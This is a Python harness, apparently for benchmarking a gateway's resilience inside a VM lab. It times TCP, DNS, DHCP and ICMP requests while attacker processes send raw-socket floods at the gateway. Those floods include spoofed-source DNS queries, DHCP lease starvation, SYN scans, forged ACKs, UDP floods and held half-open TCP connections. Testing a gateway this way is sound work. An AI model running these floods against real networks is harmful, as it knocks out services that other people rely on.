"""Load for the benchmark of the gateway: the questions of one VM, and the attacks of another one.

serve ADDRESS PORT · ask connections|lookups|leases|pings GATEWAY HOST PORT SECONDS ·
attack KIND OWN GATEWAY HOST TO-MAC RATE, of the kinds in ATTACKS and the two of _hold

Each says that it is ready. An asker then prints when it began each question (monotonic, in seconds), and how
long it took, or "-" if it failed. An attacker runs until it is killed; the time for which it is stopped
(SIGSTOP) is not made good.
"""

import contextlib
import itertools
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

PATIENCE = 5.0
MAC_AT = slice(6, 12)
Frame = bytes
ETHERTYPE = b"\x08\x00"
EVERYBODY = b"\xff" * 6
BEHIND_S = 0.01
SYN, ACK = 0x02, 0x10
HALF_OPEN = 200
"""Connections that one attacker holds."""


def serve(address: str, port: str) -> None:
    """Answer connections at one port."""
    listener = socket.create_server((address, int(port)), backlog=512)
    print("ready", flush=True)
    while True:
        sock, _ = listener.accept()
        with sock, contextlib.suppress(OSError):
            sock.recv(10)
            sock.sendall(b"ok")
            sock.recv(10)


def ask(what: str, gateway: str, host: str, port: str, seconds: str) -> None:
    """Ask again and again."""
    askers: dict[str, Callable[[], Iterator[None]]] = {
        "connections": lambda: _connections(host, int(port)),
        "lookups": lambda: _lookups(gateway),
        "leases": _leases,
        "pings": lambda: _pings(gateway),
    }
    said = []
    asker = askers[what]()
    print("ready", flush=True)
    end = time.monotonic() + float(seconds)
    while (begin := time.monotonic()) < end:
        try:
            next(asker)
        except OSError:
            said.append(f"{begin:.7f} -")
            asker = askers[what]()
            continue
        said.append(f"{begin:.7f} {time.monotonic() - begin:.7f}")
    print(*said, sep="\n")


def _connections(host: str, port: int) -> Iterator[None]:
    while True:
        with socket.create_connection((host, port), PATIENCE) as sock:
            sock.sendall(b"hi")
            if sock.recv(10) != b"ok":
                raise ConnectionError
        yield


def _lookups(gateway: str) -> Iterator[None]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect((gateway, 53))
        for number in itertools.count():
            sock.send(_question("gateway", number & 0xFFFF))
            if sock.recv(2048)[:2] != struct.pack(">H", number & 0xFFFF):
                raise ConnectionError
            yield


def _leases() -> Iterator[None]:
    """DISCOVER to ACK, by broadcast, as a client does that has no address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        sock.bind(("0.0.0.0", 68))
        sock.settimeout(PATIENCE)
        mac = _mac()
        while True:
            offer = _dhcp(sock, mac, 1, b"")
            server = offer[offer.index(b"\x36\x04", 240) :][:6]
            _dhcp(sock, mac, 3, b"\x32\x04" + offer[16:20] + server)
            yield


def _dhcp(sock: socket.socket, mac: bytes, kind: int, options: bytes) -> bytes:
    sock.sendto(_dhcp_message(mac, kind, options), ("255.255.255.255", 67))
    while True:
        answer = sock.recv(2048)
        if answer[28:34] == mac:
            return answer


def _pings(gateway: str) -> Iterator[None]:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(PATIENCE)
        for number in itertools.count():
            bare = struct.pack(">BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, number & 0xFFFF)
            sock.sendto(bare[:2] + struct.pack(">H", _sum(bare)) + bare[4:], (gateway, 0))
            while sock.recv(2048)[20:28][4:8] != bare[4:8]:
                continue
            yield


class Pace:
    """The times at which an attacker may go on."""

    def __init__(self, rate: float) -> None:
        self._each = 1 / rate
        self._next = time.monotonic()

    def wait(self) -> None:
        """Sleep until the next time; what is missed for longer than ``BEHIND_S`` is left out."""
        now = time.monotonic()
        self._next = max(self._next + self._each, now - BEHIND_S)
        if self._next > now:
            time.sleep(self._next - now)


def attack(kind: str, own: str, gateway: str, host: str, *rest: str) -> None:
    """Do it until killed; ``rest``: the Ethernet destination and the rate.

    Frames to a group's address reach no other VM: the worker drops them.
    """
    to_mac, rate = rest
    if kind in ("silent TCP", "half questions"):
        _hold(gateway, b"" if kind == "silent TCP" else b"\x00\x40half", float(rate))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0))
    mac = sock.getsockname()[4]
    head = bytes.fromhex(to_mac.replace(":", "")) + mac + ETHERTYPE
    frames = [ATTACKS[kind](head, own, gateway, host, number) for number in range(4000)]
    print("ready", flush=True)
    pace = Pace(float(rate))
    for frame in itertools.cycle(frames):
        with contextlib.suppress(OSError):
            sock.send(frame)
        pace.wait()


def _hold(gateway: str, said: bytes, rate: float) -> None:
    """Connect to the name server, say little, and go on connecting."""
    held: list[socket.socket] = []
    print("ready", flush=True)
    pace = Pace(rate)
    for number in itertools.count():
        with contextlib.suppress(OSError):
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            held.append(sock)
            sock.connect_ex((gateway, 53))
        if number >= HALF_OPEN // 2:
            with contextlib.suppress(OSError, IndexError):
                held[-20].send(said)
        if len(held) > HALF_OPEN:
            held.pop(0).close()
        pace.wait()


def _named(head: bytes, own: str, gateway: str, _: str, number: int) -> Frame:
    return head + _datagram(own, gateway, 1024 + number, 53, _question("gateway", number))


def _hopeless(head: bytes, own: str, gateway: str, _: str, number: int) -> Frame:
    return head + _datagram(own, gateway, 1024 + number, 53, _question(f"x{number}.hole.example", number))


def _absent(head: bytes, own: str, gateway: str, _: str, number: int) -> Frame:
    source = f"{own.rpartition('.')[0]}.{100 + number % 100}"
    return head + _datagram(source, gateway, 1024 + number, 53, _question("gateway", number))


def _leaser(head: bytes, _own: str, _gateway: str, _host: str, number: int) -> Frame:
    message = _dhcp_message(head[MAC_AT], 1, b"", number)
    to = head[:6] if head[0] & 1 else EVERYBODY
    return to + head[6:] + _datagram("0.0.0.0", "255.255.255.255", 68, 67, message)


def _scan(head: bytes, own: str, _: str, host: str, number: int) -> Frame:
    return head + _segment((own, 1024 + number), (host, 1 + number), (1, 0), SYN, 64240)


def _acknowledgement(head: bytes, own: str, _: str, host: str, number: int) -> Frame:
    """Acknowledge bytes that were never sent, of a connection that does not exist, with any window."""
    drawn = random.Random(number)
    sequence, acknowledged, window = (drawn.getrandbits(bits) for bits in (32, 32, 16))
    return head + _segment((own, 1024 + number), (host, 9090), (sequence, acknowledged), ACK, window)


def _flood(head: bytes, own: str, _: str, host: str, number: int) -> Frame:
    return head + _datagram(own, host, 1024 + number % 50, 9091, bytes(1400))


def _forged(head: bytes, _own: str, _gateway: str, host: str, number: int) -> Frame:
    port = random.Random(number).randrange(1, 65536)
    return head + _datagram(f"203.0.113.{number % 256}", host, port, 9090, b"x")


ATTACKS: dict[str, Callable[[bytes, str, str, str, int], Frame]] = {
    "questions": _named,
    "hopeless names": _hopeless,
    "questions without ARP": _absent,
    "leases": _leaser,
    "scan": _scan,
    "forged sources": _forged,
    "datagrams": _flood,
    "false acknowledgements": _acknowledgement,
}


def _question(name: str, number: int) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def _dhcp_message(mac: bytes, kind: int, options: bytes, number: int = 1) -> bytes:
    head = struct.pack(">BBBBIHH16x16s192x", 1, 1, 6, 0, number, 0, 0x8000, mac)
    return (head + b"\x63\x82\x53\x63\x35\x01" + bytes((kind,)) + options + b"\xff").ljust(300, b"\0")


def _mac() -> bytes:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        mac: bytes = sock.getsockname()[4]
        return mac


def _datagram(source: str, to: str, port: int, to_port: int, payload: bytes) -> bytes:
    """Return a packet without a checksum of UDP, which IPv4 allows."""
    body = struct.pack(">HHHH", port & 0xFFFF, to_port, 8 + len(payload), 0) + payload
    return _ip(socket.inet_aton(source), socket.inet_aton(to), 17, body)


def _segment(
    own: tuple[str, int], to: tuple[str, int], numbers: tuple[int, int], flags: int, window: int
) -> bytes:
    """Return a packet with a TCP segment without data; ``numbers``: its sequence and acknowledgement."""
    source, destination = socket.inet_aton(own[0]), socket.inet_aton(to[0])
    bare = struct.pack(">HHIIBBHHH", own[1], to[1], *numbers, 0x50, flags, window, 0, 0)
    checksum = _sum(source + destination + struct.pack(">HH", 6, len(bare)) + bare)
    return _ip(source, destination, 6, bare[:16] + struct.pack(">H", checksum) + bare[18:])


def _ip(source: bytes, destination: bytes, number: int, body: bytes) -> bytes:
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, number, 0) + source + destination
    return header[:10] + struct.pack(">H", _sum(header)) + header[12:] + body


def _sum(data: bytes) -> int:
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    _, mode, *words = sys.argv
    if mode == "serve":
        serve(*words)
    elif mode == "ask":
        ask(*words)
    else:
        attack(*words)
